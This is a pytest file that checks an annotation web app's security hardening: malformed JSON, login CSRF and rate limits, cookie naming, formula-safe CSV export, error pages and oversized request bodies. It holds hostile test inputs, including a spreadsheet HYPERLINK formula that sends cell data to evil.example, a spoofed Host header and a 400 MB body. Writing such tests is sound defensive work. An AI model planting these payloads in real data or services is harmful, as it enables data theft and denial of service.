"""The app's hardening after the second review (issue 18, items 3, 5, 8-12, 15, 17, 18).

Each test is one promise of docs/annotation.md's security model.
"""
from __future__ import annotations

import json
import logging
import os
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest

from support.app_study import db_rows, free_port, open_phase, rate, sign_in

REPO = Path(__file__).resolve().parents[2]


# --- 5. malformed JSON is a 400 with the JSON error shape --------------------------------
def deep(n: int) -> str:
    return "[" * n + "]" * n


@pytest.mark.parametrize("url, who", [("/pairs/answer", "cora"), ("/matching/answer", "eve"),
                                      ("/consensus/record", "ada")])
@pytest.mark.parametrize("body", [
    deep(30_000).encode(),                                        # RecursionError in the parser (60 KB)
    ('{"pair_id": ' + deep(50) + '}').encode(),                   # nesting the answers never have
    b'{"pair_id": "x", "item": "x", "comment": "\\ud800", "dimension": "\\udfff"}',  # lone surrogates
    b'{"pair_id": "x", "comment": ',                              # truncated
    b'\xff\xfe{}',                                                # not UTF-8
], ids=["deep", "nested", "surrogates", "truncated", "not-utf8"])
def test_malformed_json_is_400_with_the_json_error_shape(login, admin, url, who, body):
    open_phase(admin, "1")
    client = admin if who == "ada" else login(who)
    response = client.post(url, data=body, content_type="application/json",
                           headers={"X-CSRFToken": client.csrf})
    assert response.status_code == 400
    assert response.json["ok"] is False and response.json["error"]


def test_a_lone_surrogate_in_a_comment_writes_nothing(login, admin, env):
    open_phase(admin, "1")
    cora = login("cora")
    body = json.dumps({"pair_id": cora.item("pair", "p001"), "denotative": 1, "connotative": 1}).rstrip("}")
    body += ', "comment": "\\ud800"}'
    response = cora.post("/pairs/answer", data=body, content_type="application/json",
                         headers={"X-CSRFToken": cora.csrf})
    assert response.status_code == 400 and "surrogate" in response.json["error"]
    assert db_rows(env.study, "SELECT count(*) AS n FROM ratings")[0]["n"] == 0


# --- 9. a link's GET changes nothing; signing in is a POST from its page --------------------
def test_opening_a_link_only_shows_a_confirmation_page(app, env):
    client = app.test_client()
    page = client.get(f"/login/{env.tokens['cora']}")
    assert page.status_code == 200 and "Sign in as cora" in page.get_data(as_text=True)
    assert client.get("/pairs/").status_code == 302  # not signed in by the GET
    assert db_rows(env.study, "SELECT count(*) AS n FROM sessions")[0]["n"] == 0


def test_a_bad_link_opened_by_a_signed_in_browser_does_not_sign_it_out(login):
    cora = login("cora")
    assert cora.get("/login/not-a-real-token").status_code == 403
    assert cora.get("/pairs/instructions").status_code == 200  # still signed in


def test_signing_in_needs_the_pages_csrf_token(app, env):
    client = app.test_client()
    client.get(f"/login/{env.tokens['cora']}")
    assert client.post(f"/login/{env.tokens['cora']}").status_code == 400  # a cross-site form has no token
    assert client.get("/pairs/").status_code == 302
    assert sign_in(client, env.tokens["cora"]).status_code == 302
    assert client.get("/pairs/instructions").status_code == 200


# --- 15. sessions per person are capped; failed logins are logged and limited --------------
def test_a_link_cannot_pile_up_sessions(app, env):
    from semclust.annotate.people import MAX_SESSIONS_PER_PERSON

    clients = []
    for _ in range(MAX_SESSIONS_PER_PERSON + 5):
        client = app.test_client()
        assert sign_in(client, env.tokens["cora"]).status_code == 302
        clients.append(client)
    running = db_rows(env.study, "SELECT count(*) AS n FROM sessions WHERE ended_at IS NULL")[0]["n"]
    assert running == MAX_SESSIONS_PER_PERSON
    assert clients[0].get("/pairs/instructions").status_code == 302  # the oldest was ended
    assert clients[-1].get("/pairs/instructions").status_code == 200


def test_failed_logins_are_logged_without_the_token_and_limited_per_address(app, env, caplog):
    from semclust.annotate.auth import LOGIN_FAILURES_ALLOWED

    client = app.test_client()
    with caplog.at_level(logging.WARNING, logger="semclust.annotate.login"):
        for k in range(LOGIN_FAILURES_ALLOWED):
            assert client.get(f"/login/guess-{k:04d}-abcdef").status_code == 403
    assert len(caplog.records) == LOGIN_FAILURES_ALLOWED
    assert all("guess-" not in r.getMessage() and "127.0.0.1" in r.getMessage() for r in caplog.records)
    assert client.get(f"/login/{env.tokens['cora']}").status_code == 429  # even a right link, for a while
    other = app.test_client()
    page = other.get(f"/login/{env.tokens['cora']}", environ_base={"REMOTE_ADDR": "127.0.0.2"})
    assert page.status_code == 200  # another address is not blocked


# --- 8. the cookie is named per study; Secure means __Host- ---------------------------------
def test_two_studies_on_one_host_have_cookies_of_their_own(env, tmp_path, app):
    from semclust.annotate.app import create_app
    from semclust.study import Study

    other_root = tmp_path / "other"
    shutil.copytree(env.study.root, other_root)
    cfg = Study.open(other_root).config_path
    cfg.write_text(cfg.read_text().replace("created_at:", "created_at: '2001-01-01T00:00:00Z'\nold_created_at:"))
    other = create_app({"STUDY": other_root, "TESTING": True})
    names = {app.config["SESSION_COOKIE_NAME"], other.config["SESSION_COOKIE_NAME"]}
    assert len(names) == 2 and all(n.startswith("semclust-") for n in names)
    secure = create_app({"STUDY": env.study.root, "TESTING": True, "SESSION_COOKIE_SECURE": True})
    assert secure.config["SESSION_COOKIE_NAME"].startswith("__Host-semclust-")
    response = sign_in(secure.test_client(), env.tokens["cora"])
    cookie = response.headers["Set-Cookie"]
    assert "Secure" in cookie and "Path=/" in cookie and "Domain" not in cookie


# --- 10. exported text cells never run as formulas -----------------------------------------
def test_exported_comments_and_names_are_neutralised_and_read_back_unchanged(login, admin, env, run_cli):
    open_phase(admin, "1")
    cora = login("cora")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert rate(cora, "p001", 1, 1, comment=formula).status_code == 200
    assert rate(cora, "p002", 1, 1, comment="-1+2").status_code == 200
    assert run_cli("export", "--study", env.study.root).exit_code == 0
    raw = (env.study.exports_dir / "comments.csv").read_text()
    assert "'=HYPERLINK" in raw and "'-1+2" in raw
    assert not any(line.split(",")[2].startswith(("=", "+", "-", "@")) for line in raw.splitlines()[1:])
    ratings = pd.read_csv(env.study.ratings_csv)
    assert ratings["score"].notna().all()  # numbers stay numbers
    assert run_cli("export", "--study", env.study.root).exit_code == 0  # its own export is not foreign
    from semclust.spreadsheet import restore_frame

    comments = restore_frame(pd.read_csv(env.study.exports_dir / "comments.csv", dtype=str))
    assert set(comments["comment"]) == {formula, "-1+2"}


def test_report_tables_neutralise_text_cells(tmp_path):
    from semclust.evaluation.report_tables import write_table

    frame = pd.DataFrame({"name": ["@SUM(1)", "ok", "+x"], "score": [-0.5, 0.25, 1.0], "shown": ["-.12", "p", "-3%"]})
    write_table(frame, tmp_path, "t", "caption")
    text = (tmp_path / "t.csv").read_text().splitlines()
    assert text[1].startswith("'@SUM(1),-0.5,-.12") and text[3].startswith("'+x,1.0,-3%")


# --- 11. the simulated prefix is reserved --------------------------------------------------
@pytest.mark.parametrize("name", ["sim-anna", "SIM-coder-1"])
def test_people_named_like_simulated_raters_are_refused(run_cli, env, name):
    result = run_cli("people", "add", name, "--role", "coder", "--study", env.study.root)
    assert result.exit_code == 2 and "reserved" in result.stderr and "Traceback" not in result.stderr


# --- 12. broken study files, a full disk, a read-only study ---------------------------------
def test_a_damaged_pairs_file_shows_the_styled_page_without_paths_and_logs_the_detail(login, admin, env, caplog):
    open_phase(admin, "1")
    cora = login("cora")
    cora.post("/pairs/instructions", data={"csrf_token": cora.csrf})
    env.study.pairs_csv.write_text("pair_id,image_a\n\"unterminated\n")
    with caplog.at_level(logging.ERROR):
        page = cora.get("/pairs/")
        state = cora.get("/pairs/state", headers={"Accept": "application/json"})
    html = page.get_data(as_text=True)
    assert page.status_code == 500 and 'id="error-page"' in html and "administrator" in html
    assert str(env.study.root) not in html and "/tmp" not in html
    assert state.status_code == 500 and state.json["ok"] is False and str(env.study.root) not in state.json["error"]
    assert any(str(env.study.pairs_csv) in r.getMessage() for r in caplog.records)


def test_a_full_disk_says_disk_full_and_nothing_half_saved(app, login, admin, env):
    """Fault injection with real SQLite: the database may not grow by one page (SQLITE_FULL)."""
    open_phase(admin, "1")
    cora = login("cora")
    rate(cora, "p001")
    state = app.extensions["semclust"]
    original = state["connections"]

    import threading

    from semclust.annotate import db

    class Full(threading.local):
        def __init__(self):
            conn = db.connect(app.config["DATABASE"], state["write_lock"])
            pages = conn.execute("PRAGMA page_count").fetchone()[0]
            conn.execute(f"PRAGMA max_page_count = {pages}")
            self.conn = conn

    state["connections"] = Full()
    try:
        big = "x" * 1900
        responses = [rate(cora, pair, comment=big) for pair in ("p002", "p003", "p004") for _ in range(6)]
    finally:
        state["connections"] = original
    refused = [r for r in responses if r.status_code != 200]
    assert refused, "the database never filled up"
    assert all(r.status_code == 507 and r.json["error"].startswith("disk full") for r in refused)
    before = db_rows(env.study, "SELECT count(*) AS n FROM ratings")[0]["n"]
    assert before % 2 == 0  # both dimensions of an answer, or neither


def on_read_only_study(root: Path, *args) -> subprocess.CompletedProcess:
    """Run ``semclust ARGS`` with the study folder ``root`` read-only.

    As root (CI), file modes bind nobody: the folder is bind-mounted read-only in a private
    mount namespace (``unshare --mount``), so writes fail with EROFS as on a read-only disk.
    Otherwise the modes the fixture set (no write permission) are enough.
    """
    command = [sys.executable, "-m", "semclust", *map(str, args)]
    if os.geteuid() == 0:
        script = 'mount --bind "$0" "$0" && mount -o remount,ro,bind "$0" && exec "$@"'
        command = ["unshare", "--mount", "sh", "-c", script, str(root), *command]
    return subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)


@pytest.fixture
def read_only_study(app_study_template, tmp_path):
    """A copy of the app study that cannot be written (see :func:`on_read_only_study`), and a writable folder."""
    root = tmp_path / "study"
    shutil.copytree(app_study_template.study.root, root)
    for path in [root, *root.rglob("*")]:
        os.chmod(path, 0o555 if path.is_dir() else 0o444)
    out = tmp_path / "out"
    out.mkdir()
    yield root, out
    for path in [root, *root.rglob("*")]:
        os.chmod(path, 0o755)


def test_a_read_only_study_can_still_list_people_and_export(read_only_study):
    root, out = read_only_study
    listed = on_read_only_study(root, "people", "list", "--study", root)
    assert listed.returncode == 0, listed.stderr
    assert "cora\tcoder" in listed.stdout
    exported = on_read_only_study(root, "export", "--study", root, "--to", out)
    assert exported.returncode == 0, exported.stderr
    assert (out / "ratings.csv").is_file() and (out / "checks.csv").is_file()
    refused = on_read_only_study(root, "export", "--study", root)
    assert refused.returncode == 2 and "--to" in refused.stderr and len(refused.stderr.strip().splitlines()) == 1


# --- 17. redirects are relative --------------------------------------------------------------
def test_trailing_slash_redirects_do_not_echo_the_host_header(app):
    response = app.test_client().get("/pairs", headers={"Host": "evil.example"})
    assert response.status_code in (301, 308)
    assert response.headers["Location"] == "/pairs/"


# --- 18. before anything is open, say so ------------------------------------------------------
def test_a_coder_before_any_phase_is_open_is_told_nothing_is_open_yet(login):
    cora = login("cora")
    cora.post("/pairs/instructions", data={"csrf_token": cora.csrf})
    html = cora.get("/pairs/").get_data(as_text=True)
    assert "Nothing is open for rating yet" in html and "administrator opens" in html
    assert "All open pairs are rated" not in html


def test_an_evaluator_before_matching_is_open_is_told_so(login):
    html = login("eve").get("/matching/").get_data(as_text=True)
    assert "Nothing is open for matching yet" in html and "All open sets are matched" not in html


# --- 3. the server refuses a big body while reading it -------------------------------------
def test_the_server_refuses_a_huge_body_before_buffering_it(env):
    port = free_port()
    proc = subprocess.Popen([sys.executable, "-m", "semclust", "serve", "--study", str(env.study.root),
                             "--port", str(port)], cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True)
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=0.5).close()
                break
            except OSError:
                assert proc.poll() is None and time.monotonic() < deadline, "server did not start"
                time.sleep(0.1)
        with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
            sock.sendall(b"POST /pairs/answer HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                         b"Content-Length: 400000000\r\n\r\n" + b"x" * 65536)
            reply = sock.recv(200)  # answered at once, not after 400 MB
        assert reply.startswith(b"HTTP/1.1 413")
    finally:
        proc.terminate()
        _, err = proc.communicate(timeout=20)
    assert "own host name" in err  # the cookie warning of the start-up lines
